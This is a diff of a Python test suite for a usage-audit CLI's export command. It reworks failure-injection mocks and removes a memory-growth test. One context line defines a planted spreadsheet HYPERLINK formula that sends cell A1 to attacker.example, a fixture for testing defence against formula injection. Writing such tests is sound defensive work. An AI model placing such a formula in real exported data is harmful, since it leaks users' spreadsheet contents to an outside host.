@@ -9,9 +9,8 @@ import csv
 import io
 import json
 import os
-import tracemalloc
 from collections import Counter
-from collections.abc import Iterator, Mapping
+from collections.abc import Iterator
 from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
@@ -22,7 +21,6 @@ from boto3.dynamodb.types import TypeDeserializer
 from click.testing import CliRunner, Result
 
 from tokenbroker import bootstrap
-from tokenbroker.adapters.ledger_query import ShardPage
 from tokenbroker.adapters.usage import usage_item
 from tokenbroker.cli import audit as audit_cli
 from tokenbroker.cli import audit_time
@@ -31,10 +29,8 @@ from tokenbroker.cli.audit_render import USAGE_FIELDS
 from tokenbroker.cli.deployment import load_settings
 from tokenbroker.cli.main import cli
 from tokenbroker.domain.errors import TemporarilyUnavailable
-from tokenbroker.domain.ledger import INDEXES, partition_keys
 from tokenbroker.domain.models import UsageRecord
 from tokenbroker.local.provision import Deployment
-from tokenbroker.services.audit import AuditService
 from tokenbroker.settings import Settings
 
 from . import (
@@ -307,12 +303,12 @@ def test_a_next_token_from_other_filters_exits_2(stack: Stack) -> None:
 
 
 def test_an_aws_failure_is_one_line_and_exit_1(monkeypatch: pytest.MonkeyPatch) -> None:
-    from tokenbroker.adapters.ledger_query import DynamoLedgerQuery
+    from tokenbroker.adapters.archive_index import HotIndex
 
-    def down(*args: Any, **kw: Any) -> ShardPage:
+    def down(*args: Any, **kw: Any) -> Any:
         raise TemporarilyUnavailable("dynamodb:Query failed (ProvisionedThroughputExceeded)")
 
-    monkeypatch.setattr(DynamoLedgerQuery, "query_shard", down)
+    monkeypatch.setattr(HotIndex, "hours", down)
     assert_one_line_error(run("usage", "--principal", "bob"), 1, "dynamodb:Query failed")
 
 
@@ -518,23 +514,23 @@ def test_export_to_dash_streams_to_standard_output(stack: Stack) -> None:
 def test_a_failed_export_leaves_no_file_and_exits_1(
     stack: Stack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    from tokenbroker.adapters.ledger_query import DynamoLedgerQuery
+    from tokenbroker.adapters.archive_index import HotIndex
 
-    real = DynamoLedgerQuery.query_shard
+    real = HotIndex.records
     calls = Counter[str]()
 
-    def flaky(self: DynamoLedgerQuery, index: str, key: str, *args: Any, **kw: Any) -> ShardPage:
+    def flaky(self: HotIndex, hour: str, entries: Any) -> Any:
         calls["n"] += 1
-        if key.startswith("2026-11-27T01"):  # the second hour: the first is written
-            raise TemporarilyUnavailable("dynamodb:Query failed (InternalServerError)")
-        return real(self, index, key, *args, **kw)
+        if hour == "2026-11-27T01":  # the second hour: the first is written
+            raise TemporarilyUnavailable("dynamodb:BatchGetItem failed (InternalServerError)")
+        return real(self, hour, entries)
 
-    monkeypatch.setattr(DynamoLedgerQuery, "query_shard", flaky)
+    monkeypatch.setattr(HotIndex, "records", flaky)
     target = tmp_path / "out.jsonl"
     target.write_text("previous export\n")
     result = run("export", "--since", SINCE, "--until", UNTIL, "--to", str(target))
     assert result.exit_code == 1
-    assert result.stderr.strip().splitlines()[-1].startswith("Error: dynamodb:Query failed")
+    assert result.stderr.strip().splitlines()[-1].startswith("Error: dynamodb:BatchGetItem failed")
     assert target.read_text() == "previous export\n"  # untouched
     assert os.listdir(tmp_path) == ["out.jsonl"]
 
@@ -544,92 +540,9 @@ def test_export_into_a_missing_directory_exits_1_with_one_line(tmp_path: Path) -
     assert_one_line_error(result, 1, "cannot write")
 
 
-class SyntheticLedger:
-    """An in-memory ledger with DynamoDB's Query semantics (per shard key, sorted by
-    ``at``, Limit, LastEvaluatedKey). Records are built before measuring; each page
-    hands out fresh dicts, as deserialising a DynamoDB response does."""
-
-    def __init__(self, records: list[tuple[str, UsageRecord]]) -> None:
-        self.partitions: dict[str, list[UsageRecord]] = {}
-        for key, r in records:
-            self.partitions.setdefault(key, []).append(r)
-        for items in self.partitions.values():
-            items.sort(key=lambda r: r.at_ms)
-
-    def query_shard(
-        self,
-        index: str,
-        partition_key: str,
-        since_ms: int,
-        until_ms: int,
-        *,
-        newest_first: bool,
-        limit: int,
-        equals: Mapping[str, str] | None = None,
-        start_key: dict[str, Any] | None = None,
-    ) -> ShardPage:
-        assert index == "by_hour"
-        assert not newest_first
-        assert not equals
-        items = [
-            r for r in self.partitions.get(partition_key, []) if since_ms <= r.at_ms < until_ms
-        ]
-        start = start_key["pos"] if start_key else 0
-        page = [replace(r) for r in items[start : start + limit]]
-        more = start + limit < len(items)
-        return ShardPage(page, {"pos": start + limit} if more else None)
-
-
-def synthetic(n: int) -> list[tuple[str, UsageRecord]]:
-    out = []
-    for i in range(n):
-        r = record(T0 + 1 + (i * 3_599_000) // n, f"p{i % 40}", device=f"d{i}")
-        key = usage_item(r)["hour_shard"]["S"]
-        assert key in partition_keys("by_hour", "2026-11-27T00")
-        out.append((key, r))
-    return out
-
-
-def peak_export_bytes(records: list[tuple[str, UsageRecord]], tmp: Path, page_size: int) -> int:
-    fake = SyntheticLedger(records)
-
-    def service() -> AuditService:
-        return AuditService(fake, export_page_size=page_size, workers=1)
-
-    with pytest.MonkeyPatch.context() as mp:
-        mp.setattr(audit_cli, "audit_service", service)
-        target = tmp / f"{len(records)}.jsonl"
-        args = ("export", "--since", iso(T0), "--until", iso(T0 + HOUR_MS), "--to", str(target))
-        tracemalloc.start()
-        try:
-            result = run(*args)
-            _, peak = tracemalloc.get_traced_memory()
-        finally:
-            tracemalloc.stop()
-    assert result.exit_code == 0, result.output
-    with target.open() as f:
-        assert sum(1 for _ in f) == len(records)
-    return peak
-
-
-def test_export_memory_does_not_grow_with_the_number_of_records(tmp_path: Path) -> None:
-    # The bound is one page per shard of one hour (shards x page size). With pages of 2,
-    # 2,000 records in an hour already fill every shard's first page, so 8,000 must not
-    # cost more; pages that hold a shard's whole hour cost about four times as much.
-    small, large = synthetic(2_000), synthetic(8_000)
-    per_shard = Counter(key for key, _ in small)
-    assert len(per_shard) == INDEXES["by_hour"].shards
-    assert min(per_shard.values()) >= 2
-    peak_export_bytes(small[:300], tmp_path, 2)  # warm up: imports, click, caches
-    peaks = {n: peak_export_bytes(records, tmp_path, 2) for n, records in ((2, small), (8, large))}
-    assert peaks[8] / peaks[2] < 1.5, peaks
-    whole = peak_export_bytes(large, tmp_path, 1000)
-    assert whole > 2 * peaks[8], (whole, peaks)
-
-
 # ------------------------------------------------- formula injection, filters (issues 8, 14)
 
-X0 = T0 - 10 * DAY_MS  # a quiet day of its own (in the past: the hour registry is used)
+X0 = T0 - 10 * DAY_MS  # a quiet day of its own
 PLANTED = '=HYPERLINK("https://attacker.example/?leak="&A1,"click")'
 
 
